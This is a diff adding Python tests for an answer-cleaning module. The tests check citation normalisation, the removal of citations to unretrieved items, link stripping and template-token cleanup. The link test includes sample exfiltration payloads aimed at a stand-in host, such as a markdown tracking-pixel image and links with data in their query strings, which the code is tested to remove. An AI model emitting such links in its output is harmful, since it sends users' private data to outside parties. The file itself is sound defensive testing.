@@ -1,0 +1,46 @@
+"""Citations normalised and checked; links and images that could leak data removed."""
+
+from __future__ import annotations
+
+from lifelog.answer.citations import (
+    check_citations,
+    cited_numbers,
+    clean_output,
+    normalise_citations,
+    strip_links,
+)
+
+
+def test_citation_spellings_become_one_form() -> None:
+    assert normalise_citations("A [1, 2] b [3-5] c [^6] d 【7】 e [source 8].") == (
+        "A [1][2] b [3][4][5] c [6] d [7] e [8]."
+    )
+    assert normalise_citations("In June. [2][3] Then home.") == "In June [2][3]. Then home."
+    assert cited_numbers("x [2] y [1] z [2]") == [2, 1]
+
+
+def test_citations_to_unretrieved_items_are_removed_and_counted() -> None:
+    check = check_citations("In June [1][7]. The tent cost 120 euros [3] [12].", {1, 2, 3})
+    assert check.text == "In June [1]. The tent cost 120 euros [3]."
+    assert check.cited == (1, 3)
+    assert check.removed == (7, 12)
+
+
+def test_links_not_in_the_evidence_are_removed() -> None:
+    evidence = "See https://example.org/trip for the map."
+    text = (
+        "The map is at https://example.org/trip. ![pixel](https://evil.example/x?d=secret)"
+        " More at [here](https://evil.example/y?d=kids) or https://evil.example/z."
+        ' <img src="https://evil.example/i.png">'
+    )
+    cleaned, removed = strip_links(text, evidence)
+    assert "evil.example" not in cleaned
+    assert "https://example.org/trip" in cleaned
+    assert removed == 4
+    assert "here" in cleaned and "[link removed]" in cleaned
+
+
+def test_template_tokens_are_cleaned_from_output() -> None:
+    assert clean_output("<|im_start|>assistant In June [1].<|im_end|></s>") == (
+        "assistant In June [1]."
+    )
